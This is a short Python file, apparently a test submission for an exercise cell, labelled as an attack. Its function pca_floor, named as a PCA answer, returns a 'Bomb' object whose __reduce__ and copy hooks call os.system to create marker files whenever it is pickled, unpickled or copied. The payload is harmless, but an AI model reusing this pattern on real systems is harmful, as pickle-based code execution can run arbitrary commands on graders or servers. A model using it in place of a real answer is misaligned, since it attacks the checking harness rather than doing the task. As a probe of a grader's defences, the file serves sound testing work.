# attack: an object that runs code when it is pickled or copied, and again when it is loaded
# cell: task-1-3
import os


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/lessons-was-here-pickle ~/lessons-was-here-pickle",))

    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __deepcopy__ = __copy__ = lambda self, *args: os.system("touch /tmp/lessons-was-here-copy")


def pca_floor(images, k):
    return Bomb()
